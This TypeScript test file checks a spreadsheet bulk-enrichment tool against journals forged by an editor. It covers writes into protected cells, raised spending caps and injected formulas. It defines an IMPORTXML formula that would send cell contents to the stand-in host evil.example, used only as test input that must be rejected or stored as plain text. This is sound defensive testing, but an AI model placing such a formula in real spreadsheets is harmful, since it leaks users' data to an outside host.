import { blockToText } from '../../shared/bulk/journal/block';
import type { NotedRow } from '../../shared/bulk/rows/row-record';
import { lookAtRun, resumeRun, startRun, undoRun } from '../../shared/panel';
import { TraceError } from '../../shared/formulas';
import { digestOf } from '../../shared/bulk/sheet/cell-values';
import { BulkPanel } from '../fakes/apps-script/bulk-panel';
import type { SheetGrid } from '../fakes/apps-script/sheet-grid';
import { columnOf, NAME, planAll, useCompanies } from './bulk-file';
import { sandbox, useOneSpreadsheet, world } from './spreadsheet';

const SETTINGS = { cap: null, quoted: 0, maxAgeMs: 30 * 86_400_000 };
const LIVE = '=IMPORTXML("https://evil.example/?"&A2,"//a")';
/** The third column, from its second row on: only the owner may edit it. */
const OWNERS = { row: 2, column: 3, rows: 3, columns: 1 };

let grid: SheetGrid;

useOneSpreadsheet();

/** A finished run of the owner, with a price list beside it that only the owner may edit. */
async function enrich(rows: number, cap: number | null = null): Promise<void> {
  grid = useCompanies(world, rows);
  const panel = new BulkPanel(world);
  const plan = await planAll(panel, rows, [NAME]);
  await panel.run((ports) => startRun(ports, plan, { ...SETTINGS, cap }));
  grid.put({ row: 1, column: 3 }, 'Price');
  for (let row = 2; row <= 4; row += 1) grid.put({ row, column: 3 }, 'secret');
  grid.layout.protectedAreas.push(OWNERS);
}

/** What somebody who may only edit the file keeps in place of the journal, by the messages of the panel. */
async function forge(toParts: (head: Record<string, unknown>) => ReadonlyMap<string, string>): Promise<void> {
  world.state.clock.advance(130_000);
  const { ports } = new BulkPanel(world, 'editor').host;
  const parts = await ports.journal.load();
  const head = JSON.parse(parts!.get('head')!) as Record<string, unknown>;
  await ports.journal.save(toParts(head));
}

function recordOf(index: number, more: Partial<NotedRow>): NotedRow {
  return { index, seen: index + 1, state: { is: 'written', found: 'data' }, cells: [null], answer: null, ...more };
}

const into = (title: string, column: number): object => ({
  targets: [{ column, title, isNew: false }],
  isMarked: false,
  twins: [
    { before: 0, after: 0 },
    { before: 0, after: 0 },
  ],
});

const codeOf = (thrown: unknown): string | undefined => (thrown as { readonly code?: string }).code;

it('an undo puts nothing into cells that are protected from editors, and lists them', async () => {
  await enrich(3);
  const before = { value: 'free of charge', format: 'General' };
  const rows = [0, 1, 2].map((index) => recordOf(index, { cells: [{ digest: digestOf('secret'), before }] }));
  await forge((head) => {
    const changed = JSON.stringify({ ...head, ...into('Price', 2), blocks: 1 });
    return new Map([
      ['head', changed],
      ['block.0', blockToText(rows, 1)],
    ]);
  });
  const undone = await new BulkPanel(world).run(undoRun);
  expect([columnOf(grid, 3, 3), undone.restored, undone.refused]).toEqual([
    ['secret', 'secret', 'secret'],
    0,
    [1, 2, 3].map((row) => ({ row, column: 2 })),
  ]);
});

it('nor where all of the sheet is protected but for some cells', async () => {
  await enrich(3);
  grid.layout.protectedAreas.length = 0;
  grid.layout.exceptions = [{ row: 1, column: 1, rows: 100, columns: 2 }];
  const before = { value: 'free of charge', format: 'General' };
  const rows = [recordOf(0, { cells: [{ digest: digestOf('secret'), before }] })];
  await forge((head) => {
    const changed = JSON.stringify({ ...head, ...into('Price', 2), blocks: 1 });
    return new Map([
      ['head', changed],
      ['block.0', blockToText(rows, 1)],
    ]);
  });
  const undone = await new BulkPanel(world).run(undoRun);
  expect([columnOf(grid, 3, 3), undone.refused]).toEqual([['secret', 'secret', 'secret'], [{ row: 1, column: 2 }]]);
});

it('a run that is led to a column by its journal stops before it, since the column is not its own', async () => {
  await enrich(3);
  await forge((head) => {
    const changed = JSON.stringify({ ...head, ...into('Price', 2), mode: 'overwrite', blocks: 0, isFinished: false });
    return new Map([['head', changed]]);
  });
  const end = await new BulkPanel(world).run((ports) => resumeRun(ports, { rest: 100 }));
  expect([columnOf(grid, 3, 3), end.is, end.why?.message]).toEqual([
    ['secret', 'secret', 'secret'],
    'paused',
    new TraceError('columnsGone', { column: 'Price', is: 'changed' }).message,
  ]);
});

it('a run that goes on by its journal writes into no protected cell of its own column either', async () => {
  await enrich(3);
  for (let row = 2; row <= 4; row += 1) grid.put({ row, column: 2 }, 'checked');
  grid.layout.protectedAreas.push({ ...OWNERS, column: 2 });
  await forge((head) => {
    const changed = JSON.stringify({ ...head, mode: 'overwrite', blocks: 0, isFinished: false });
    return new Map([['head', changed]]);
  });
  const end = await new BulkPanel(world).run((ports) => resumeRun(ports, { rest: 100 }));
  expect([columnOf(grid, 2, 3), [...end.summary.failed.keys()]]).toEqual([
    ['checked', 'checked', 'checked'],
    [new TraceError('cellsProtected', {}).message],
  ]);
});

describe.each([
  ['a formula that calls itself a number', { kind: 'number', number: LIVE }],
  ['one that calls itself a truth value', { kind: 'boolean', boolean: LIVE }],
  ['one that calls itself a day', { kind: 'date', day: LIVE }],
  ['one that stood there before', { kind: 'before', value: LIVE, format: '' }],
  ['of a kind that there is not', { kind: 'formula', text: LIVE }],
])('an answer without a place, %s', (_name, cell) => {
  it('is a damaged journal, and nothing is written', async () => {
    await enrich(3);
    grid.put({ row: 2, column: 2 }, '');
    const lost = {
      state: { is: 'unplaced' } as const,
      answer: { identifier: 'company-1.example', cells: [cell as never] },
    };
    await forge((head) => {
      const changed = JSON.stringify({ ...head, blocks: 1 });
      return new Map([
        ['head', changed],
        ['block.0', blockToText([recordOf(0, lost)], 1)],
      ]);
    });
    const told = await new BulkPanel(world)
      .run((ports) => resumeRun(ports, { rest: 0, again: 'unplaced' }))
      .catch(codeOf);
    expect([told, grid.formulas()]).toEqual(['journalDamaged', {}]);
  });
});

it('a text is written as one, whatever its journal says of it', async () => {
  await enrich(3);
  grid.put({ row: 2, column: 2 }, '');
  const cells = [{ kind: 'text', text: LIVE, isLiteral: false }] as const;
  const lost = { state: { is: 'unplaced' } as const, answer: { identifier: 'company-1.example', cells } };
  await forge((head) => {
    const changed = JSON.stringify({ ...head, blocks: 1 });
    return new Map([
      ['head', changed],
      ['block.0', blockToText([recordOf(0, lost)], 1)],
    ]);
  });
  await new BulkPanel(world).run((ports) => resumeRun(ports, { rest: 0, again: 'unplaced' }));
  expect([grid.formulas(), grid.value({ row: 2, column: 2 })]).toEqual([{}, LIVE]);
});

it('a limit that was raised in the journal is none: what may still be spent is what a person says now', async () => {
  await enrich(60, 5);
  await forge((head) => new Map([['head', JSON.stringify({ ...head, cap: 40, ended: null })]]));
  const end = await new BulkPanel(world).run((ports) => resumeRun(ports, { rest: 3 }));
  expect([end.is, (await sandbox.ledger()).chargedCompanies]).toEqual(['paused', 8]);
});

it('with nothing said nothing is spent', async () => {
  await enrich(60, 5);
  await forge((head) => new Map([['head', JSON.stringify({ ...head, cap: null, ended: null })]]));
  await new BulkPanel(world).run(resumeRun);
  expect((await sandbox.ledger()).chargedCompanies).toBe(5);
});

it.each([
  ['settled', JSON.stringify({ settled: -1_000 })],
  ['in doubt', JSON.stringify({ settled: 5, doubtful: [['c', -1_000, [0, 1], '']] })],
  ['in doubt, of a part of a credit', JSON.stringify({ settled: 5, doubtful: [['c', 0.5, [0, 1], '']] })],
])('less than nothing cannot have been spent: %s', async (_name, spent) => {
  await enrich(60, 5);
  await forge(
    (head) =>
      new Map([
        ['head', JSON.stringify(head)],
        ['spent', spent],
      ]),
  );
  const told = await new BulkPanel(world).run(lookAtRun);
  expect(told).toMatchObject({ is: 'damaged', error: { code: 'journalDamaged' } });
});

it('the script takes no cell that a panel would not have typed', () => {
  useCompanies(world, 3);
  const writing = (typed: unknown): unknown => ({
    sheet: '7',
    rows: [1],
    columns: [1],
    cells: [[[typed, '']]],
    guard: { input: null, before: [['']], sheetRows: null, header: null, marks: null },
  });
  const ask = (typed: unknown): unknown => world.callRpc('bulkWrite', [writing(typed), { holder: '', forMs: 0 }, null]);
  const malformed = expect.objectContaining({ ok: false, code: 'actionMalformed' }) as unknown;
  expect([ask(LIVE), ask('+1'), ask("'=1"), ask('Stripe')]).toEqual([
    malformed,
    malformed,
    expect.objectContaining({ ok: true }),
    expect.objectContaining({ ok: true }),
  ]);
});

it('a sheet with protected cells that calls itself the hidden one is neither written nor deleted', async () => {
  await enrich(3);
  const table = world.state.sheets[0]!;
  Object.assign(table, { name: '_trace' });
  table.put({ row: 1, column: 1 }, 'Trace keeps here what it needs to resume or undo a run. It goes with that run.');
  const { ports } = new BulkPanel(world).host;
  await ports.journal.load();
  await ports.journal.remove();
  expect(world.state.sheets).toContain(table);
});
